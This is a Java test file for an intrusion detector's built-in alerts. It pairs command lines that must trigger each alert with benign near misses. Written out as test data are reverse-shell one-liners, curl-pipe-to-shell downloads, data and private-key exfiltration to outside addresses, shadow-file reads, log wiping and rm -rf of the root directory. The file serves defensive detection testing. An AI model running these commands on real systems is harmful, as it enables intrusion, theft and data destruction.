package io.edgesec.detector.internal;

import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

/**
 * Every built-in alert: scenarios that must fire it (exactly the listed IDs, nothing else) and
 * near misses that must not. Command lines are as the audit collector writes them (argv joined,
 * odd arguments quoted), process trees as audit sees them (a pipeline is siblings).
 */
class BuiltinAlertsTest extends AlertCases {
    private static final Table CASES = new Table();

    static {
        // IOTA-001 reverse shell
        CASES.fires("bash -i to /dev/tcp (and the connection of the forked bash)", "IOTA-001", s -> s
                .execPid(6001, "/usr/bin/bash", "bash -c \"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\"", 4000)
                .connect("/usr/bin/bash", 6001, "127.0.0.1", 4444, "Out"));
        CASES.fires("nc -e /bin/sh", "IOTA-001", s -> s.run("nc 10.0.0.5 4444 -e /bin/sh"));
        CASES.fires("ncat -c bash", "IOTA-001", s -> s.run("ncat --ssl -c bash 10.0.0.5 443"));
        CASES.fires("socat exec:sh tcp:", "IOTA-001", s -> s.run("socat exec:\"bash -li\",pty,stderr tcp:10.0.0.5:4444"));
        CASES.fires("mkfifo pipe with nc", "IOTA-001", s -> s.run("sh -c \"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.5 4444 >/tmp/f\""));
        CASES.fires("python socket one-liner", "IOTA-001", s -> s.run("python3 -c \"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\\\"10.0.0.5\\\",4444));os.dup2(s.fileno(),0);subprocess.call([\\\"/bin/sh\\\",\\\"-i\\\"])\""));
        CASES.fires("perl socket one-liner", "IOTA-001", s -> s.run("perl -e \"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\\\"tcp\\\"));if(connect(S,sockaddr_in(4444,inet_aton(\\\"10.0.0.5\\\")))){open(STDIN,\\\">&S\\\");exec(\\\"/bin/sh -i\\\");};\""));
        CASES.fires("shell opening a TCP connection", "IOTA-001", s -> s.connect("/usr/bin/dash", 7001, "203.0.113.9", 9001, "Out"));
        CASES.quiet("nc listening, no shell", s -> s.run("nc -lvnp 4444"));
        CASES.quiet("nc port scan of one host", s -> s.run("nc -zv 10.0.0.5 22"));
        CASES.quiet("python http.server", s -> s.run("python3 -m http.server 8000"));
        CASES.quiet("curl connecting out (not a shell)", s -> s.connect("/usr/bin/curl", 7002, "203.0.113.9", 443, "Out"));
        CASES.quiet("shell accepting? inbound to sshd child", s -> s.connect("/usr/bin/bash", 7003, "203.0.113.9", 22, "In"));

        // IOTA-003 auditd
        CASES.fires("auditctl -e 0", "IOTA-003", s -> s.run("auditctl -e 0"));
        CASES.fires("auditctl -D", "IOTA-003", s -> s.run("auditctl -D"));
        CASES.fires("systemctl stop auditd", "IOTA-003", s -> s.run("systemctl stop auditd"));
        CASES.fires("service auditd stop", "IOTA-003", s -> s.run("service auditd stop"));
        CASES.fires("systemctl mask auditd.service", "IOTA-003", s -> s.run("systemctl mask auditd.service"));
        CASES.fires("pkill auditd", "IOTA-003", s -> s.exec("/usr/bin/pgrep", "pkill -9 auditd", 4000));
        CASES.quiet("auditctl -l / -s", s -> s.run("auditctl -l").run("auditctl -s"));
        CASES.quiet("auditctl -e 1", s -> s.run("auditctl -e 1"));
        CASES.quiet("auditctl -D -k one key (scoped delete)", s -> s.run("auditctl -D -k edgesec-test"));
        CASES.quiet("systemctl restart auditd", s -> s.run("systemctl restart auditd"));

        // IOTA-004 firewall
        CASES.fires("iptables -F", "IOTA-004", s -> s.exec("/usr/sbin/xtables-nft-multi", "iptables -F", 4000));
        CASES.fires("iptables -P INPUT ACCEPT", "IOTA-004", s -> s.exec("/usr/sbin/xtables-nft-multi", "iptables -P INPUT ACCEPT", 4000));
        CASES.fires("nft flush ruleset", "IOTA-004", s -> s.run("nft flush ruleset"));
        CASES.fires("ufw disable", "IOTA-004", s -> s.run("ufw disable"));
        CASES.fires("systemctl stop firewalld", "IOTA-004", s -> s.run("systemctl stop firewalld"));
        CASES.quiet("iptables -L -n", s -> s.exec("/usr/sbin/xtables-nft-multi", "iptables -L -n", 4000));
        CASES.quiet("iptables -A INPUT -j DROP", s -> s.exec("/usr/sbin/xtables-nft-multi", "iptables -A INPUT -p tcp --dport 23 -j DROP", 4000));
        CASES.quiet("iptables -P INPUT DROP", s -> s.exec("/usr/sbin/xtables-nft-multi", "iptables -P INPUT DROP", 4000));
        CASES.quiet("nft list ruleset", s -> s.run("nft list ruleset"));

        // IOTA-005 port forwarding
        CASES.fires("ssh -L", "IOTA-005", s -> s.run("ssh -N -L 8080:10.0.0.7:80 user@jump"));
        CASES.fires("ssh -R", "IOTA-005", s -> s.run("ssh -fNR 2222:localhost:22 user@203.0.113.9"));
        CASES.fires("socat listen fork", "IOTA-005", s -> s.run("socat TCP-LISTEN:8080,fork TCP:10.0.0.7:80"));
        CASES.fires("iptables DNAT", "IOTA-005", s -> s.exec("/usr/sbin/xtables-nft-multi",
                "iptables -t nat -A PREROUTING -p tcp --dport 8080 -j DNAT --to-destination 10.0.0.7:80", 4000));
        CASES.fires("sysctl ip_forward=1", "IOTA-005", s -> s.run("sysctl -w net.ipv4.ip_forward=1"));
        CASES.fires("chisel", Set.of("IOTA-005", "IOTA-018"), s -> s.run("/usr/local/bin/chisel client 203.0.113.9:8000 R:socks"));
        CASES.quiet("plain ssh", s -> s.run("ssh -p 2222 admin@10.0.0.7"));
        CASES.quiet("sysctl -a", s -> s.run("sysctl -a"));
        CASES.quiet("sysctl ip_forward=0", s -> s.run("sysctl -w net.ipv4.ip_forward=0"));
        CASES.quiet("iptables -t nat -L", s -> s.exec("/usr/sbin/xtables-nft-multi", "iptables -t nat -L -n", 4000));

        // IOTA-006 web shell
        CASES.fires("sh under nginx", "IOTA-006", s -> s.execPid(6100, "/usr/sbin/nginx", "nginx: worker process", 1)
                .exec("/usr/bin/dash", "sh -c id", 6100));
        CASES.fires("bash under php-fpm", "IOTA-006", s -> s.execPid(6101, "/usr/sbin/php-fpm8.2", "php-fpm: pool www", 1)
                .exec("/usr/bin/bash", "bash -c whoami", 6101));
        CASES.quiet("nginx reload by systemd", s -> s.execPid(6102, "/usr/sbin/nginx", "nginx -s reload", 1));
        CASES.quiet("a shell under sshd", s -> s.execPid(6103, "/usr/sbin/sshd", "sshd: admin [priv]", 1)
                .exec("/usr/bin/bash", "-bash", 6103));

        // IOTA-007 / IOTA-017 local logins
        CASES.fires("login on tty1", "IOTA-007", s -> s.login("/usr/bin/login", "USER_LOGIN", "root", null, "tty1", true));
        CASES.fires("login on serial console", "IOTA-007", s -> s.login("/usr/bin/login", "USER_LOGIN", "pi", null, "/dev/ttyS0", true));
        CASES.fires("failed login on tty1", "IOTA-017", s -> s.login("/usr/bin/login", "USER_AUTH", "root", null, "tty1", false));
        CASES.quiet("ssh login", s -> s.login("/usr/sbin/sshd", "USER_LOGIN", "admin", "10.0.0.9", "ssh", true));
        CASES.quiet("su on a pts", s -> s.login("/usr/bin/su", "USER_AUTH", "root", null, "/dev/pts/0", true));
        CASES.quiet("one failed su on a pts", s -> s.login("/usr/bin/su", "USER_AUTH", "root", null, "/dev/pts/0", false));

        // IOTA-008 encoded
        CASES.fires("echo b64 | base64 -d | sh (siblings)", "IOTA-008", s -> s.run("base64 -d").run("sh"));
        CASES.fires("sh -c with base64 -d | bash", "IOTA-008", s -> s.run("sh -c \"echo aWQK | base64 -d | bash\""));
        CASES.fires("python exec(b64decode)", "IOTA-008", s -> s.run("python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\""));
        CASES.quiet("base64 -d to a file", s -> s.run("base64 -d cert.b64").after(10).run("ls -l"));
        CASES.quiet("base64 encode", s -> s.run("base64 /etc/hostname"));

        // IOTA-010 miner process
        CASES.fires("xmrig", Set.of("IOTA-010"), s -> s.run("/opt/xmrig/xmrig -o pool.example:3333"));
        CASES.fires("stratum url", "IOTA-010", s -> s.run("/usr/local/bin/worker -o stratum+tcp://pool.example.com:3333 -u wallet"));
        CASES.fires("miner named file in /tmp", Set.of("IOTA-010", "IOTA-046"), s -> s.run("/tmp/xmrig --donate-level 1"));
        CASES.fires("pool port from an unknown process", "IOTA-010", s -> s.connect("/usr/local/bin/worker", 7100, "198.51.100.7", 3333, "Out"));
        CASES.quiet("grep for xmrig", s -> s.run("grep -r xmrig /var/log/syslog"));
        CASES.quiet("ssh to port 3333 on loopback", s -> s.connect("/usr/bin/ssh", 7101, "127.0.0.1", 3333, "Out"));

        // IOTA-013 exposed docker
        CASES.fires("dockerd -H tcp://0.0.0.0", "IOTA-013", s -> s.exec("/usr/bin/dockerd", "dockerd -H tcp://0.0.0.0:2375 -H unix:///var/run/docker.sock", 1));
        CASES.fires("docker listening on all addresses", "IOTA-013", s -> s.periodic("ListeningPorts", Ev.map("Protocol", "tcp",
                "LocalAddress", "0.0.0.0", "LocalPort", "2375", "Executable", "/usr/bin/dockerd", "ProcessId", 900)));
        CASES.quiet("dockerd on loopback tcp", s -> s.exec("/usr/bin/dockerd", "dockerd -H tcp://127.0.0.1:2375", 1));
        CASES.quiet("dockerd default", s -> s.exec("/usr/bin/dockerd", "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock", 1));

        // IOTA-014 download then run
        CASES.fires("curl -o then chmod +x then run", Set.of("IOTA-014", "IOTA-046"), s -> s.run("curl -s -o /tmp/payload http://10.0.0.5:8000/payload")
                .run("chmod +x /tmp/payload").exec("/tmp/payload", "/tmp/payload", 4000));
        CASES.fires("wget to cwd then run as a script", Set.of("IOTA-014", "IOTA-046"), s -> {
            s.cwd = "/tmp";
            s.run("wget http://10.0.0.5/x.sh").run("sh /tmp/x.sh");
        });
        CASES.fires("curl | sh (siblings)", "IOTA-014", s -> s.run("curl -fsSL http://10.0.0.5/install").run("sh"));
        CASES.fires("sh -c curl | bash", "IOTA-014", s -> s.run("sh -c \"curl -s http://10.0.0.5/i.sh | bash\""));
        CASES.quiet("curl -o f alone", s -> s.run("curl -o f http://10.0.0.5/f").after(60).run("ls"));
        CASES.quiet("chmod +x of a file nobody downloaded", s -> s.run("chmod +x /tmp/build.sh"));
        CASES.quiet("curl | jq", s -> s.run("curl -s http://10.0.0.5/api").run("jq .status"));
        CASES.quiet("download run after the window", s -> s.run("curl -o /opt/tool http://10.0.0.5/tool").after(3600)
                .exec("/opt/tool", "/opt/tool", 4000));

        // IOTA-015 nohup
        CASES.fires("nohup /tmp/x", Set.of("IOTA-015"), s -> s.exec("/usr/bin/nohup", "nohup /tmp/.x/agent", 4000));
        CASES.quiet("nohup of a normal program", s -> s.exec("/usr/bin/nohup", "nohup /usr/bin/python3 server.py", 4000));

        // IOTA-016 / IOTA-035 users
        CASES.fires("admin useradd of a normal user is 035", "IOTA-035", s -> s.exec("/usr/sbin/useradd", "useradd -m -s /bin/bash bob", 4000));
        CASES.fires("useradd -o -u 0", "IOTA-016", s -> s.exec("/usr/sbin/useradd", "useradd -o -u 0 -g 0 toor", 4000));
        CASES.fires("useradd home in /tmp", "IOTA-016", s -> s.exec("/usr/sbin/useradd", "useradd -d /tmp/.h hidden", 4000));
        CASES.fires("adduser (running useradd) is one 035", "IOTA-035", s -> s.execPid(6200, "/usr/bin/perl", "/usr/sbin/adduser --disabled-password --gecos \"\" carol", 4000)
                .exec("/usr/sbin/useradd", "/usr/sbin/useradd -d /home/carol -g 1001 -s /bin/bash -u 1001 carol", 6200));
        CASES.fires("useradd run by a web server", Set.of("IOTA-016", "IOTA-035"), s -> s.execPid(6201, "/usr/sbin/nginx", "nginx: worker process", 1)
                .exec("/usr/sbin/useradd", "useradd eve", 6201));
        CASES.quiet("useradd --help", s -> s.exec("/usr/sbin/useradd", "useradd --help", 4000));
        CASES.quiet("add-user record of useradd (the exec alert covers it)", s -> s.account("ADD_USER", "adding-user", "(unknown)", "/usr/sbin/useradd"));

        // IOTA-018 attack tools
        CASES.fires("nmap", "IOTA-018", s -> s.run("nmap -sS 10.0.0.0/24"));
        CASES.fires("hydra", "IOTA-018", s -> s.run("hydra -l root -P rockyou.txt ssh://10.0.0.5"));
        CASES.fires("linpeas via sh", Set.of("IOTA-018", "IOTA-046"), s -> s.run("sh /tmp/linpeas.sh"));
        CASES.quiet("nmap-like names", s -> s.run("nmcli device status"));

        // IOTA-019 reconnaissance
        CASES.fires("id, uname -a, cat /etc/passwd, ip a, ps aux", "IOTA-019", s -> s.run("id").run("uname -a")
                .run("cat /etc/passwd").run("ip a").run("ps aux"));
        CASES.quiet("ss -l alone", s -> s.run("ss -l"));
        CASES.quiet("an administrator's health check: five kinds, no identity question", s -> s.run("ps aux").run("ss -tlnp")
                .run("ip a").run("cat /etc/os-release").run("grep -c root /etc/passwd").run("last -n 5"));
        CASES.fires("whoami then a linpeas-like sweep", "IOTA-019", s -> s.run("whoami").run("hostname").run("cat /etc/issue")
                .run("netstat -antp").run("ps -ef").run("getent passwd"));
        CASES.quiet("ss -l in a loop", s -> {
            for (int i = 0; i < 20; i++) {
                s.run("ss -ltn");
            }
        });
        CASES.quiet("four kinds only (an administrator's look around)", s -> s.run("id").run("uname -a").run("ip a").run("ps aux")
                .run("df -h").run("free -m").run("uptime"));
        CASES.quiet("five kinds from different parents", s -> {
            s.run("id");
            s.shell = 4100;
            s.run("uname -a");
            s.shell = 4200;
            s.run("ip a");
            s.shell = 4300;
            s.run("ps aux");
            s.shell = 4400;
            s.run("cat /etc/passwd");
        });
        CASES.quiet("five kinds spread over an hour", s -> s.run("id").after(900).run("uname -a").after(900).run("ip a").after(900)
                .run("ps aux").after(900).run("cat /etc/passwd"));

        // IOTA-020 interpreter/extension
        CASES.fires("python x.sh", "IOTA-020", s -> s.run("python3 ./update.sh"));
        CASES.fires("bash x.py", "IOTA-020", s -> s.run("bash run.py"));
        CASES.fires("perl x.sh", "IOTA-020", s -> s.run("perl job.sh"));
        CASES.quiet("python x.py, bash x.sh", s -> s.run("python3 app.py").run("bash deploy.sh"));

        // IOTA-021 loss of data
        CASES.fires("tar /etc | nc", "IOTA-021", s -> s.run("sh -c \"tar czf - /etc | nc 10.0.0.5 9000\""));
        CASES.fires("curl -T /etc/shadow (reads it too)", Set.of("IOTA-021", "IOTA-025"), s -> s.run("curl -T /etc/shadow ftp://10.0.0.5/"));
        CASES.fires("scp private key out (reads it too)", Set.of("IOTA-021", "IOTA-025"), s -> s.run("scp /root/.ssh/id_rsa user@203.0.113.9:/tmp/"));
        CASES.quiet("tar of /etc to a local file", s -> s.run("tar czf /backup/etc.tgz /etc"));
        CASES.quiet("scp a public key", s -> s.run("scp /root/.ssh/id_rsa.pub user@10.0.0.7:/tmp/"));

        // IOTA-022 overriding common files
        CASES.fires("cp over /usr/bin/ls", "IOTA-022", s -> s.run("cp /tmp/ls /usr/bin/ls"));
        CASES.fires("dd of=/bin/sh", "IOTA-022", s -> s.run("dd if=/tmp/x of=/bin/sh"));
        CASES.quiet("cp from /usr/bin", s -> s.run("cp /usr/bin/ls /tmp/ls"));
        CASES.quiet("install into /usr/local/bin", s -> s.run("install -m 755 tool /usr/local/bin/tool"));
        CASES.quiet("dpkg moving binaries", s -> s.execPid(6300, "/usr/bin/dpkg", "dpkg -i x.deb", 4000).exec("/usr/bin/mv", "mv /usr/bin/x.dpkg-new /usr/bin/x", 6300));

        // IOTA-023 log removal
        CASES.fires("rm /var/log/auth.log", "IOTA-023", s -> s.run("rm -f /var/log/auth.log"));
        CASES.fires("shred wtmp", "IOTA-023", s -> s.run("shred -u /var/log/wtmp"));
        CASES.fires("journalctl --vacuum-time", "IOTA-023", s -> s.run("journalctl --vacuum-time=1s"));
        CASES.fires("sh -c truncating a log", "IOTA-023", s -> s.run("sh -c \"> /var/log/syslog\""));
        CASES.quiet("rm of rotated logs", s -> s.run("rm /var/log/syslog.2.gz /var/log/syslog.1"));
        CASES.quiet("writing a log", s -> s.run("sh -c \"echo started >> /var/log/app.log\""));
        CASES.quiet("reading logs", s -> s.run("tail -f /var/log/syslog"));

        // IOTA-024 masquerading
        CASES.fires("trailing space", Set.of("IOTA-024", "IOTA-046"), s -> s.exec("/tmp/ls ", "\"/tmp/ls \"", 4000));
        CASES.fires("sshd run from /dev/shm", Set.of("IOTA-024", "IOTA-046"), s -> s.exec("/dev/shm/sshd", "/dev/shm/sshd -D", 4000));
        CASES.quiet("real sshd", s -> s.exec("/usr/sbin/sshd", "/usr/sbin/sshd -D", 1));

        // IOTA-025 credential access
        CASES.fires("cat /etc/shadow", "IOTA-025", s -> s.run("cat /etc/shadow"));
        CASES.fires("unshadow (john)", "IOTA-025", s -> s.exec("/usr/sbin/john", "unshadow /etc/passwd /etc/shadow", 4000));
        CASES.fires("copy an SSH private key", "IOTA-025", s -> s.run("cp /root/.ssh/id_ed25519 /tmp/k"));
        CASES.quiet("ssh -i key", s -> s.run("ssh -i /root/.ssh/id_rsa admin@10.0.0.7"));
        CASES.quiet("cat /etc/passwd alone", s -> s.run("cat /etc/passwd"));
        CASES.quiet("cat a public key", s -> s.run("cat /root/.ssh/id_rsa.pub"));

        // IOTA-026 suspicious compilation
        CASES.fires("gcc /tmp/x.c", Set.of("IOTA-026"), s -> s.run("gcc -o /tmp/x /tmp/x.c"));
        CASES.fires("gcc in /dev/shm", Set.of("IOTA-026"), s -> {
            s.cwd = "/dev/shm";
            s.run("gcc -o exp exp.c");
        });
        CASES.quiet("gcc in a home directory (with as on /tmp/cc*.s)", s -> {
            s.cwd = "/home/pi/src";
            s.execPid(6400, "/usr/bin/gcc-12", "gcc -O2 -o hello hello.c", 4000)
                    .exec("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet hello.c -o /tmp/ccA1b2C3.s", 6400)
                    .exec("/usr/bin/x86_64-linux-gnu-as", "as --64 -o /tmp/ccX9y8Z7.o /tmp/ccA1b2C3.s", 6400);
        });

        // IOTA-027 bots
        CASES.fires("download to /tmp, chmod, run, delete", Set.of("IOTA-014", "IOTA-027", "IOTA-046"), s -> s
                .run("wget -O /tmp/.b http://10.0.0.5/bot.x86").run("chmod 777 /tmp/.b")
                .exec("/tmp/.b", "/tmp/.b", 4000).run("rm -f /tmp/.b"));
        CASES.fires("killing competing miners", "IOTA-027", s -> s.exec("/usr/bin/pgrep", "pkill -9 -f xmrig", 4000));
        CASES.quiet("pkill of a normal program", s -> s.exec("/usr/bin/pgrep", "pkill -HUP nginx", 4000));

        // IOTA-028 ransomware
        CASES.fires("rm -rf /home", "IOTA-028", s -> s.run("rm -rf /home"));
        CASES.fires("rm -rf --no-preserve-root /", "IOTA-028", s -> s.run("rm -rf --no-preserve-root /"));
        CASES.fires("openssl enc loop", "IOTA-028", s -> {
            for (int i = 0; i < 12; i++) {
                s.run("openssl enc -aes-256-cbc -salt -in /data/f" + i + " -out /data/f" + i + ".enc -k secret");
            }
        });
        CASES.quiet("rm -rf of a build directory", s -> s.run("rm -rf /home/pi/project/build"));
        CASES.quiet("one openssl enc", s -> s.run("openssl enc -aes-256-cbc -in backup.tar -out backup.tar.enc -pass file:/root/k"));

        // IOTA-030 history
        CASES.fires("rm .bash_history", "IOTA-030", s -> s.run("rm -f /root/.bash_history"));
        CASES.fires("bash -c history -c", "IOTA-030", s -> s.run("bash -c \"history -c\""));
        CASES.fires("ln -sf /dev/null history", "IOTA-030", s -> s.run("ln -sf /dev/null /root/.bash_history"));
        CASES.fires("unset HISTFILE in sh -c", "IOTA-030", s -> s.run("bash -c \"unset HISTFILE; id\""));
        CASES.quiet("reading history", s -> s.run("tail /root/.bash_history.bak").run("grep ssh /root/.bash_history"));

        // IOTA-002 / IOTA-031 brute force
        CASES.fires("5 failed su then success", "IOTA-002", s -> {
            for (int i = 0; i < 5; i++) {
                s.login("/usr/bin/su", "USER_AUTH", "tmpuser", null, "/dev/pts/1", false);
            }
            s.login("/usr/bin/su", "USER_AUTH", "tmpuser", null, "/dev/pts/1", true);
        });
        CASES.fires("6 failed ssh from one address", "IOTA-031", s -> {
            for (int i = 0; i < 6; i++) {
                s.login("/usr/sbin/sshd", "USER_AUTH", "user" + i, "203.0.113.50", "ssh", false);
            }
        });
        CASES.quiet("2 failures then success", s -> s.login("/usr/bin/su", "USER_AUTH", "tmpuser", null, "/dev/pts/1", false)
                .login("/usr/bin/su", "USER_AUTH", "tmpuser", null, "/dev/pts/1", false)
                .login("/usr/bin/su", "USER_AUTH", "tmpuser", null, "/dev/pts/1", true));
        CASES.quiet("5 failures over a day", s -> {
            for (int i = 0; i < 5; i++) {
                s.login("/usr/sbin/sshd", "USER_AUTH", "admin", "10.0.0.9", "ssh", false).after(3 * 3600);
            }
        });

        // IOTA-032 / 033 / 034 groups and deletion
        CASES.fires("usermod -aG", "IOTA-032", s -> s.exec("/usr/sbin/usermod", "usermod -aG video bob", 4000));
        CASES.fires("gpasswd -a", "IOTA-032", s -> s.exec("/usr/bin/gpasswd", "gpasswd -a bob plugdev", 4000));
        CASES.fires("adduser U G", "IOTA-032", s -> s.execPid(6500, "/usr/bin/perl", "/usr/sbin/adduser bob dialout", 4000));
        CASES.fires("gpasswd -d", "IOTA-033", s -> s.exec("/usr/bin/gpasswd", "gpasswd -d bob plugdev", 4000));
        CASES.fires("deluser U G", "IOTA-033", s -> s.execPid(6501, "/usr/bin/perl", "/usr/sbin/deluser bob dialout", 4000));
        CASES.fires("userdel", "IOTA-034", s -> s.exec("/usr/sbin/userdel", "userdel -r bob", 4000));
        CASES.fires("deluser U", "IOTA-034", s -> s.execPid(6502, "/usr/bin/perl", "/usr/sbin/deluser --remove-home bob", 4000)
                .exec("/usr/sbin/userdel", "/usr/sbin/userdel bob", 6502));
        CASES.quiet("usermod -s (shell change)", s -> s.exec("/usr/sbin/usermod", "usermod -s /bin/zsh bob", 4000));
        CASES.quiet("groups bob", s -> s.run("groups bob"));

        // IOTA-040 kernel modules
        CASES.fires("insmod", "IOTA-040", s -> s.exec("/usr/bin/kmod", "insmod /tmp/rootkit.ko", 4000));
        CASES.fires("modprobe by a user", "IOTA-040", s -> s.exec("/usr/bin/kmod", "modprobe dummy", 4000));
        CASES.quiet("modprobe by udev", s -> s.execPid(6600, "/usr/lib/systemd/systemd-udevd", "/lib/systemd/systemd-udevd", 1)
                .exec("/usr/bin/kmod", "/sbin/modprobe -bv pci:v00008086", 6600));
        CASES.quiet("modprobe by the kernel", s -> s.exec("/usr/bin/kmod", "/sbin/modprobe -q -- net-pf-10", 2));
        CASES.quiet("modprobe -r", s -> s.exec("/usr/bin/kmod", "modprobe -r dummy", 4000));

        // IOTA-011 / IOTA-012 containers (engine events and inventory)
        CASES.fires("container created from a miner image", "IOTA-011", s -> s.add("ContainerEvent", Ev.map("Action", "create",
                "ContainerId", "abc123def456", "ContainerName", "helper", "Image", "docker.io/xmrig/xmrig:6.21")));
        CASES.fires("inventory: miner image, twice (one alert)", "IOTA-011", s -> s
                .periodic("ContainerInventory", Ev.map("ContainerId", "abc123", "ContainerName", "w", "Image", "minergate/cli:latest",
                        "Privileged", false, "CapAdd", List.of()))
                .after(600).periodic("ContainerInventory", Ev.map("ContainerId", "abc123", "ContainerName", "w",
                        "Image", "minergate/cli:latest", "Privileged", false, "CapAdd", List.of())));
        CASES.fires("inventory: privileged module", "IOTA-012", s -> s.periodic("ContainerInventory", Ev.map("ContainerId", "p1",
                "ContainerName", "opcua", "ModuleName", "opcua", "Image", "acr.io/opcua:1", "Privileged", true, "CapAdd", List.of())));
        CASES.fires("inventory: CAP_SYS_ADMIN", "IOTA-012", s -> s.periodic("ContainerInventory", Ev.map("ContainerId", "p2",
                "ContainerName", "x", "Image", "x:1", "Privileged", false, "CapAdd", List.of("NET_ADMIN", "SYS_ADMIN"))));
        CASES.fires("inventory: host pid with added capabilities", "IOTA-012", s -> s.periodic("ContainerInventory", Ev.map("ContainerId", "p3",
                "ContainerName", "x", "Image", "x:1", "Privileged", false, "PidMode", "host", "CapAdd", List.of("NET_ADMIN"))));
        CASES.quiet("inventory: ordinary containers", s -> s.periodic("ContainerInventory", Ev.map("ContainerId", "p4",
                "ContainerName", "edgeHub", "Image", "mcr.microsoft.com/azureiotedge-hub:1.5", "Privileged", false,
                "PidMode", "host", "CapAdd", List.of(), "Binds", List.of("/var/lib/miner-data:/data"))));
        CASES.quiet("an image merely containing 'mine'", s -> s.add("ContainerEvent", Ev.map("Action", "start",
                "ContainerId", "abc", "ContainerName", "minecraft", "Image", "itzg/minecraft-server:latest")));

        // IOTA-041 / IOTA-042 containers (process side)
        CASES.fires("docker exec sh", "IOTA-041", s -> s.add("ContainerEvent", Ev.map("Action", "exec_start", "ContainerId",
                "c0ffee00aa", "ContainerName", "web", "Image", "nginx:1.25", "Command", "sh")));
        CASES.fires("nsenter -t 1 -m", "IOTA-042", s -> s.run("nsenter -t 1 -m -u -i -n -p -- bash"));
        CASES.fires("chroot /host", "IOTA-042", s -> s.run("chroot /host bash"));
        CASES.fires("docker socket from a container", "IOTA-042", s -> {
            s.container = "c0ffee00aa";
            s.run("curl --unix-socket /var/run/docker.sock http://localhost/containers/json");
        });
        CASES.quiet("docker exec of a program", s -> s.add("ContainerEvent", Ev.map("Action", "exec_start", "ContainerId",
                "c0ffee00aa", "ContainerName", "web", "Image", "nginx:1.25", "Command", "nginx -t")));
        CASES.quiet("nsenter into a container pid's net ns", s -> s.run("nsenter -t 4242 -n ip a"));
        CASES.quiet("docker ps on the host", s -> s.run("docker ps"));

        // IOTA-043 persistence
        CASES.fires("crontab file", "IOTA-043", s -> s.run("crontab /tmp/cron.txt"));
        CASES.fires("cp to /etc/cron.d", "IOTA-043", s -> s.run("cp job /etc/cron.d/job"));
        CASES.fires("echo into crontab via sh -c", "IOTA-043", s -> s.run("sh -c \"echo '* * * * * /tmp/x' >> /var/spool/cron/crontabs/root\""));
        CASES.quiet("crontab -l", s -> s.run("crontab -l"));

        // IOTA-044 security modules
        CASES.fires("setenforce 0", "IOTA-044", s -> s.run("setenforce 0"));
        CASES.fires("aa-teardown", "IOTA-044", s -> s.run("aa-teardown"));
        CASES.fires("systemctl stop apparmor", "IOTA-044", s -> s.run("systemctl stop apparmor"));
        CASES.quiet("setenforce 1, aa-status", s -> s.run("setenforce 1").run("aa-status"));

        // IOTA-045 sudoers / authorized keys
        CASES.fires("tee -a authorized_keys", "IOTA-045", s -> s.run("tee -a /root/.ssh/authorized_keys"));
        CASES.fires("echo >> /etc/sudoers via sh -c", "IOTA-045", s -> s.run("sh -c \"echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers\""));
        CASES.fires("cp into sudoers.d", "IOTA-045", s -> s.run("cp rules /etc/sudoers.d/90-bob"));
        CASES.quiet("cat authorized_keys, visudo -c", s -> s.run("cat /root/.ssh/authorized_keys").run("visudo -c"));

        // IOTA-046 temporary locations
        CASES.fires("run /dev/shm/x", "IOTA-046", s -> s.exec("/dev/shm/x", "/dev/shm/x", 4000));
        CASES.fires("run from a hidden directory", "IOTA-046", s -> s.exec("/var/lib/.cache2/upd", "/var/lib/.cache2/upd", 4000));
        CASES.quiet("~/.local/bin tool", s -> s.exec("/home/pi/.local/bin/black", "black .", 4000));
        CASES.quiet("apt hook script in /tmp by dpkg", s -> s.execPid(6700, "/usr/bin/dpkg", "dpkg --configure -a", 4000)
                .exec("/usr/bin/dash", "/bin/sh /tmp/postinst-helper", 6700));
    }

    static Stream<Case> cases() {
        return CASES.stream();
    }
}
